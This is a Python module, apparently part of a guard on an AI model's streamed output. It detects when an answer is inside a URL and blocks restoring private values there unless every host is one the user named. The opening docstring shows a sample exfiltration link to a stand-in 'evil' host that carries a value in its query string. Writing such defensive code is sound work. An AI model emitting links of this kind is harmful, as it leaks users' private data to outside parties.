"""Links carry values out: `[more](https://evil/?q=[PERSON_1])` sends the value to the author of the link.

Whether a position of an answer is inside a URL is judged by what stands before it, so that a stream and the whole text
get the same verdict. Inside one, a value is restored only when every host in it is one that the user wrote.
"""

import re
from collections.abc import Iterable
from typing import Final

_SCHEME: Final = r"[a-z][a-z0-9+.-]{1,14}:[/\\]{1,2}|(?:https?|ftp|wss?|mailto|javascript|intent|blob|file):"
_BARE_HOST: Final = r"(?:[a-zа-я0-9-]{1,63}\.){1,8}[a-zа-я]{2,24}\.?(?::[0-9]{1,5})?[/?#\\]"
_BEGIN: Final = re.compile(
    rf"\]\(\s{{0,8}}<?|^ {{0,3}}\[[^\]\n]{{1,80}}\]:\s{{0,8}}<?|(?:href|src|srcset|action|poster|background"
    rf"|ping|cite|url)\s{{0,4}}[=(]\s{{0,4}}[\"']?"
    rf"|[\"'<`]?(?:{_SCHEME}|[/\\]{{2}}(?=[^\s/\\])|www\.|{_BARE_HOST})",
    re.IGNORECASE | re.MULTILINE,
)
# What ends a URL is what ends it in every reader: Markdown's links end at ASCII white space only, and readers that make
# links of bare URLs go on after a quotation mark. In JSON a quotation mark does end a string.
_ENDS: Final = {
    "<": re.compile(r">|\n[ \t]*\n"),
    '"': re.compile(r"\"[^ \t\n\r\f\v<]*[ \t\n\r\f\v<]|\n[ \t]*\n"),
    "'": re.compile(r"'[^ \t\n\r\f\v<]*[ \t\n\r\f\v<]|\n[ \t]*\n"),
    "`": re.compile(r"`[^ \t\n\r\f\v<]*[ \t\n\r\f\v<]|\n[ \t]*\n"),
}
_LINK_END: Final = re.compile(r"[ \t\n\r\f\v]")
_BARE_END: Final = re.compile(r"[ \t\n\r\f\v<]")
_JSON_END: Final = re.compile(r"(?<!\\)(?:\\\\)*\"")
_AUTHORITY: Final = re.compile(r"(?:[a-z][a-z0-9+.-]{1,14}:[/\\]{0,3}|[/\\]{2,})([^/\\?#\s]*)([/\\?#]?)", re.IGNORECASE)
_LEADING: Final = re.compile(r"([^/\\?#\s:]+(?::[0-9]{1,5})?)([/\\?#]?)")
_USERS_HOSTS: Final = re.compile(
    r"(?:[a-z0-9а-я](?<![\w@.-].)[a-z0-9а-я-]{0,62}\.)(?:[a-z0-9а-я-]{1,63}\.){0,6}[a-zа-я]{2,24}(?![\w-])",
    re.IGNORECASE,
)
_OVERLAP: Final = 96
"""How much of the text outside any URL may still belong to the beginning of one."""
_MARKS: Final = ("/", ":", "\\", "](", "=", "?", "#", "url(", "www.")
"""What every beginning of a URL has one of; texts without are not looked through."""


def hosts_in(texts: Iterable[str]) -> frozenset[str]:
    """Return the hosts that a user's texts name, in lower case."""
    return frozenset(host.lower() for text in texts if "." in text for host in _USERS_HOSTS.findall(text))


class LinkWatch:
    """Follows an answer as it comes and says whether its end so far is in a URL that may not have values."""

    def __init__(self, hosts: frozenset[str], *, json: bool = False) -> None:
        self._hosts = hosts
        self._json = json
        self._text = ""
        """What may still matter: from the URL's beginning, or the last characters outside any."""
        self._waiting: list[str] = []
        self._end: re.Pattern[str] | None = None

    def see(self, text: str) -> None:
        """Take in the next piece of the answer, as it came over the border."""
        self._waiting.append(text)

    def forbids(self) -> bool:
        """Whether a value at the end of what was seen would be in a URL of a host that is not the user's."""
        if self._waiting:
            self._follow("".join(self._waiting))
            self._waiting.clear()
        return self._end is not None and not self._is_users()

    def _follow(self, piece: str) -> None:
        text = self._text + piece
        position = len(self._text) if self._end is not None else 0
        while True:
            if self._end is not None:
                end = self._end.search(text, position)
                if end is None:
                    self._text = text
                    return
                position, self._end, text = 0, None, text[end.end() :]
            begin = _BEGIN.search(text, position) if any(mark in text for mark in _MARKS) else None
            if begin is None:
                self._text = text[-_OVERLAP:]
                return
            opened = begin.group()
            text, position = text[begin.start() :], len(opened)
            self._end = _JSON_END if self._json else _end_of(opened)

    def _is_users(self) -> bool:
        """Whether every host of the URL so far is complete and the user's."""
        url = self._text.lstrip("]( \t<\"'`")
        found = [(match.group(1), match.group(2)) for match in _AUTHORITY.finditer(url)]
        if not found and (leading := _LEADING.match(url)) is not None:
            found = [(leading.group(1), leading.group(2))]
        return bool(found) and all(
            closed in {"/", "?", "#"} and _host(authority) in self._hosts for authority, closed in found
        )


def _end_of(opened: str) -> re.Pattern[str]:
    """Return what ends a URL that was opened so."""
    if opened[0] in _ENDS:
        return _ENDS[opened[0]]
    if opened[-1] in _ENDS:
        return _ENDS[opened[-1]]
    return _LINK_END if opened[0] in "] [" else _BARE_END


def _host(authority: str) -> str:
    return authority.rpartition("@")[2].partition(":")[0].rstrip(".").lower()
